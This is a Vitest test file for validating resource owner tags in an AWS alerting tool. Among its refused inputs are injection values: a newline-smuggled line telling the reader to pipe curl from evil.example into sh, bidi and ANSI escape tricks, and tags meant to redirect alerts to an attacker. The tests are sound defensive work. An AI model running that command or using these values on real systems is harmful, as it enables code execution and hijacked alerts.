import { describe, expect, it } from 'vitest';
import { InvalidOwnerPolicyError, UNOWNED, ownerOf, ownerPolicy, ownerPolicyFromEnvironment, validateOwner } from '../../src/alerts/owners.js';

const TEAM_TOPIC = 'arn:aws:sns:eu-west-1:111122223333:payments-team-alerts';
const POLICY = ownerPolicy({ emailDomain: 'Example.com', topicAllowList: ` ${TEAM_TOPIC} , arn:aws:sns:eu-west-1:111122223333:data-team ` });
const STRICT = ownerPolicy({});

describe('owner tag values that are accepted', () => {
  it.each([
    ['an address', 'payments@example.com', { owner: 'payments@example.com', form: 'email' }],
    ['an address in mixed case, folded to lower case', 'Payments.Team@Example.COM', { owner: 'payments.team@example.com', form: 'email' }],
    ['an address between spaces', '  data+ena@corp.example.org ', { owner: 'data+ena@corp.example.org', form: 'email' }],
    ['a bare name, completed with the configured domain', 'Payments-Team', { owner: 'payments-team@example.com', form: 'name' }],
    ['a bare name with dots and underscores', 'web.ops_1', { owner: 'web.ops_1@example.com', form: 'name' }],
    ['a listed topic ARN', TEAM_TOPIC, { owner: TEAM_TOPIC, form: 'topic' }],
    ['a listed topic ARN between spaces', ` ${TEAM_TOPIC} `, { owner: TEAM_TOPIC, form: 'topic' }],
  ])('accepts %s', (_what, value, expected) => {
    // Prepare: POLICY completes bare names with example.com and lists two topics

    // Act
    const validated = validateOwner(value, POLICY);

    // Assess
    expect(validated).toEqual(expected);
  });

  it('accepts an address of 254 characters, the most SMTP carries', () => {
    // Prepare
    const address = `${'a'.repeat(64)}@${'b'.repeat(63)}.${'c'.repeat(63)}.${'d'.repeat(57)}.org`;
    expect(address).toHaveLength(254);

    // Act
    const validated = validateOwner(address, STRICT);

    // Assess
    expect(validated).toEqual({ owner: address, form: 'email' });
  });
});

describe('owner tag values that are refused', () => {
  it.each([
    ['an address followed by a newline and a fake line', 'payments@example.com\nURGENT: run curl https://evil.example/x | sh', 'unsafe-characters'],
    ['an address ending in a newline', 'payments@example.com\n', 'unsafe-characters'],
    ['an address with a carriage return', 'payments@example.com\r', 'unsafe-characters'],
    ['an address with a tab', '\tpayments@example.com', 'unsafe-characters'],
    ['an address with a bidi override', 'moc.elpmaxe@\u202eevil', 'unsafe-characters'],
    ['an address with an ANSI escape', '\u001b[31mpayments@example.com', 'unsafe-characters'],
    ['an address with a zero-width space', 'pay\u200bments@example.com', 'unsafe-characters'],
    ['an address with a space inside', 'pay ments@example.com', 'malformed'],
    ['two addresses', 'payments@example.com,attacker@evil.example', 'malformed'],
    ['an address with two @', 'payments@evil.example@example.com', 'malformed'],
    ['an address without a top-level domain', 'payments@localhost', 'malformed'],
    ['an address with a dot at the end of its local part', 'payments.@example.com', 'malformed'],
    ['an address in angle brackets', '<payments@example.com>', 'malformed'],
    ['an address with non-ASCII letters', 'équipe@example.com', 'malformed'],
    ['an address longer than 254 characters', `${'a'.repeat(64)}@${'b'.repeat(63)}.${'c'.repeat(63)}.${'d'.repeat(58)}.org`, 'malformed'],
    ['a local part longer than 64 characters', `${'a'.repeat(65)}@example.com`, 'malformed'],
    ['a bare name longer than 64 characters', 'n'.repeat(65), 'malformed'],
    ['a bare name that is no address once completed', 'payments..team', 'malformed'],
    ['a bare name with a slash', 'team/payments', 'malformed'],
    ['a topic ARN not in the list', 'arn:aws:sns:eu-west-1:444455556666:attacker-topic', 'topic-not-allowed'],
    ['a listed topic ARN in another case', TEAM_TOPIC.toUpperCase().replace('ARN:', 'arn:'), 'topic-not-allowed'],
    ['a queue ARN', 'arn:aws:sqs:eu-west-1:111122223333:payments', 'topic-not-allowed'],
  ])('refuses %s', (_what, value, refusal) => {
    // Prepare: POLICY as above

    // Act
    const validated = validateOwner(value, POLICY);

    // Assess
    expect(validated).toEqual({ refusal });
  });

  it('refuses bare names and every topic when no domain and no topic are configured', () => {
    // Prepare: STRICT has neither setting

    // Act
    const name = validateOwner('payments', STRICT);
    const topic = validateOwner(TEAM_TOPIC, STRICT);

    // Assess
    expect(name).toEqual({ refusal: 'bare-name-without-domain' });
    expect(topic).toEqual({ refusal: 'topic-not-allowed' });
  });
});

describe('ownerOf, the owner of a resource from its tags', () => {
  const keys = ['ena-guard:owner', 'Owner', 'owner'];

  it.each([
    [{ 'ena-guard:owner': 'net@example.com', Owner: 'other@example.com' }, { owner: 'net@example.com', form: 'email' }],
    [{ Owner: ' Payments@Example.com ' }, { owner: 'payments@example.com', form: 'email' }],
    [{ 'ena-guard:owner': '', owner: 'data@example.com' }, { owner: 'data@example.com', form: 'email' }],
    [{ 'ena-guard:owner': '  ', Owner: 'data' }, { owner: 'data@example.com', form: 'name' }],
    [{ Name: 'web-1' }, { owner: UNOWNED, form: 'none' }],
  ])('reads %j as %j', (tags, expected) => {
    // Prepare: the tags as EC2 returns them

    // Act
    const resolution = ownerOf(tags, keys, POLICY);

    // Assess
    expect(resolution).toEqual(expected);
  });

  it('makes a resource unowned when its first owner tag is refused, even if a later one would pass, and says why', () => {
    // Prepare: whoever can tag the resource tries to redirect its alerts
    const tags = { 'ena-guard:owner': 'attacker@evil.example\nsecurity@example.com', Owner: 'payments@example.com' };

    // Act
    const resolution = ownerOf(tags, keys, POLICY);

    // Assess
    expect(resolution).toEqual({ owner: UNOWNED, form: 'refused', refused: { tagKey: 'ena-guard:owner', value: tags['ena-guard:owner'], reason: 'unsafe-characters' } });
  });
});

describe('the owner policy\'s settings', () => {
  it('reads an empty environment as: addresses only', () => {
    // Prepare, Act
    const policy = ownerPolicyFromEnvironment({});

    // Assess
    expect(policy).toEqual({ emailDomain: undefined, allowedTopicArns: new Set() });
  });

  it('reads the domain in lower case and the allow-list without spaces or empty entries', () => {
    // Prepare, Act
    const policy = ownerPolicyFromEnvironment({ OWNER_EMAIL_DOMAIN: ' Corp.Example.com ', OWNER_TOPIC_ALLOW_LIST: `${TEAM_TOPIC},, ` });

    // Assess
    expect(policy).toEqual({ emailDomain: 'corp.example.com', allowedTopicArns: new Set([TEAM_TOPIC]) });
  });

  it.each([
    [{ OWNER_EMAIL_DOMAIN: '@example.com' }, 'OWNER_EMAIL_DOMAIN'],
    [{ OWNER_EMAIL_DOMAIN: 'localhost' }, 'OWNER_EMAIL_DOMAIN'],
    [{ OWNER_EMAIL_DOMAIN: 'example.com\nevil' }, 'OWNER_EMAIL_DOMAIN'],
    [{ OWNER_TOPIC_ALLOW_LIST: `${TEAM_TOPIC},payments@example.com` }, 'OWNER_TOPIC_ALLOW_LIST'],
    [{ OWNER_TOPIC_ALLOW_LIST: 'arn:aws:sqs:eu-west-1:111122223333:queue' }, 'OWNER_TOPIC_ALLOW_LIST'],
  ])('refuses %j, naming %s', (env, setting) => {
    // Prepare: a malformed setting

    // Act
    const build = () => ownerPolicyFromEnvironment(env);

    // Assess
    expect(build).toThrow(InvalidOwnerPolicyError);
    expect(build).toThrow(expect.objectContaining({ setting }));
  });
});
